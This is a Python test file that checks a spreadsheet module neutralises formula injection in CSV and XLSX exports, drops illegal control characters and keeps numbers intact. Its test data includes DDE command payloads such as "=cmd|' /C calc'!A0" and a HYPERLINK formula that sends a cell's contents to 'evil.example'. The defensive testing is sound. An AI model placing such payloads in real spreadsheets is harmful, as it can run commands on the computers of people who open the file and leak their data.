"""Sheet cells (geo.spreadsheet): formulas neutralised, illegal characters dropped, numbers kept.

The attacks of issue 10: ``=cmd|' /C calc'!A0`` typed by staff became a live formula in the
monthly report XLSX; a ``\\u0007`` in an address made every XLSX export answer 500.
"""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook

from geo import report, spreadsheet
from geo.report import Entry, Letterhead, Report, build_rows
from tests.geo.test_report import COUNTS, TARGETS

DDE = "=cmd|' /C calc'!A0"
FORMULAS = [DDE, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
            "\t=1+1", "\r=1+1", "  =HYPERLINK(\"http://x\",\"bấm\")", "＝1+1",
            '=HYPERLINK("http://evil.example/?"&A1,"Xem")']


def _sheet_xml(body: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        return "".join(archive.read(n).decode() for n in archive.namelist()
                       if n.startswith("xl/worksheets/"))


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_prefixes_every_formula_with_an_apostrophe(text):
    assert spreadsheet.csv_cell(text) == "'" + text


@pytest.mark.parametrize("value, written", [
    (-5, "-5"), (-0.5, "-0.5"), (12, "12"), ("-106.925000", "-106.925000"), ("+84", "+84"),
    ("1e3", "1e3"), ("Nguyễn Văn A", "Nguyễn Văn A"), (None, ""), ("a=b", "a=b"),
])
def test_numbers_and_plain_text_are_left_alone(value, written):
    assert spreadsheet.csv_cell(value) == written


def test_digit_text_keeps_the_leading_zero():
    assert spreadsheet.csv_cell(spreadsheet.as_digit_text("0912345678")) == '="0912345678"'
    assert spreadsheet.as_digit_text("09 12") == "09 12"  # not only digits: plain text
    assert not isinstance(spreadsheet.as_digit_text("=1+1"), spreadsheet.DigitText)


def test_control_characters_are_dropped_not_fatal():
    text = "12 Lê\u0007 Lợi\u001b\x00, KP\x0b1"
    assert spreadsheet.csv_cell(text) == "12 Lê Lợi, KP1"
    book = Workbook()
    spreadsheet.put(book.active, 1, 1, text)
    out = io.BytesIO()
    book.save(out)  # openpyxl raises IllegalCharacterError on the raw text
    assert load_workbook(out).active["A1"].value == "12 Lê Lợi, KP1"
    assert "\t" in spreadsheet.clean_text("a\tb\nc")  # tab and newline are legal text


def test_overlong_text_is_cut_to_one_excel_cell():
    assert len(spreadsheet.csv_cell("x" * 40_000)) == spreadsheet.MAX_CELL_CHARS


@pytest.mark.parametrize("text", FORMULAS)
def test_xlsx_formula_text_is_a_quoted_string_cell(text):
    book = Workbook()
    sheet = book.active
    cell = spreadsheet.put(sheet, 1, 1, text)
    spreadsheet.put(sheet, 1, 2, -5)
    assert cell.data_type == "s" and cell.quotePrefix
    out = io.BytesIO()
    book.save(out)
    xml = _sheet_xml(out.getvalue())
    assert "<f>" not in xml and "<f " not in xml
    again = load_workbook(out).active
    # Shown literally, without an apostrophe (XML reads a CR back as a line feed).
    assert again["A1"].value == spreadsheet.clean_text(text).replace("\r", "\n")
    assert again["A1"].data_type == "s"
    assert again["B1"].value == -5 and again["B1"].data_type == "n"


def test_monthly_report_staff_text_never_becomes_a_formula():
    """Issue 10: ``=cmd|' /C calc'!A0`` in the monthly report XLSX (``write_xlsx``)."""
    entries = {"houses_reviewed": Entry(result_text=DDE, difficulties="@SUM(A1)",
                                        proposals="-1+cmd|' /C calc'!A0"),
               "campaigns": Entry(result_text="Đã làm\u0007 xong", difficulties="+1+1")}
    head = Letterhead(issuer="=HYPERLINK(\"http://x\")", number="Số: 12/BC\u001b",
                      recipient="=1+2",
                      signatures=({"title": "=1+1", "name": "Nguyễn Văn A"},))
    r = Report(ward_name="Phường Tam Phước", month="2026-10",
               rows=build_rows(TARGETS, COUNTS, entries, "2026-10"), as_of=date(2026, 10, 20),
               made_on=date(2026, 10, 21), letterhead=head)
    body = report.write_xlsx(r)
    xml = _sheet_xml(body)
    assert not re.search(r"<f[ >]", xml)
    values = [v for row in load_workbook(io.BytesIO(body)).active.iter_rows(values_only=True)
              for v in row if isinstance(v, str)]
    assert any(DDE in v for v in values)  # the text is kept, shown as typed
    assert "=1+1" in values and "Đã làm xong" in " ".join(values)
